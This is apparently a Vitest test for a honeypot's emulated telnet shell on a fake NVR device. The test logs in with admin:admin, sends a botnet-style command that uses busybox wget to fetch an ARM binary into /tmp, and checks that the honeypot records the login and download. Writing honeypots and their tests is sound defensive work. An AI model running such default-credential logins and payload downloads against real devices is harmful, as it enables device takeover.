import { spawn } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { telnetService } from '../../../../agent/services/shell/telnet';
import { eventually } from '../../../helpers/eventually';
import { startService, type ServiceHarness } from '../service-harness';

/** The real telnet client logs in with a persona account and gets the emulated shell. */
const ip = '127.0.13.2';

describe('telnet login into the emulated shell', () => {
  let h: ServiceHarness;
  beforeAll(async () => {
    h = await startService(telnetService, {
      ip,
      distro: 'debian',
      hostname: 'nvr-03',
      services: ['telnet', 'ssh'],
      serviceConfig: { ssh: { users: 'admin:admin' } },
    });
  });
  afterAll(async () => {
    await h.stop();
  });

  it('a right password opens the shell; commands are answered and recorded', async () => {
    const child = spawn('telnet', [ip], { stdio: ['pipe', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (d: Buffer) => (out += d.toString('utf8')));
    const exited = new Promise<void>((resolve) => child.on('close', () => resolve()));
    await eventually(() => out.includes('nvr-03 login: '), { what: 'login prompt' });
    child.stdin.write('admin\n');
    await eventually(() => out.includes('Password: '), { what: 'password prompt' });
    child.stdin.write('admin\n');
    await eventually(() => out.includes('admin@nvr-03:~$ '), { what: 'shell prompt' });
    child.stdin.write('id; cd /tmp; busybox wget http://127.0.0.1:9/m.arm7; pwd\n');
    await eventually(() => out.includes('admin@nvr-03:/tmp$ '), { what: 'second prompt' });
    expect(out).toContain('uid=1000(admin) gid=1000(admin) groups=1000(admin)');
    expect(out).toMatch(/‘m\.arm7’ saved \[\d+\/\d+\]/);
    child.stdin.write('exit\n');
    await exited;
    const auth = h.ofKind('auth').find((a) => a.data.username === 'admin');
    expect(auth?.data.success).toBe(true);
    const cmd = await eventually(() => h.ofKind('command').find((c) => String(c.data.command).startsWith('id;')));
    expect(cmd.data).toMatchObject({
      mode: 'telnet',
      user: 'admin',
      downloads: [{ tool: 'wget', url: 'http://127.0.0.1:9/m.arm7', path: '/tmp/m.arm7' }],
    });
    expect(h.ofKind('command').some((c) => c.data.command === 'exit')).toBe(true);
  });
});
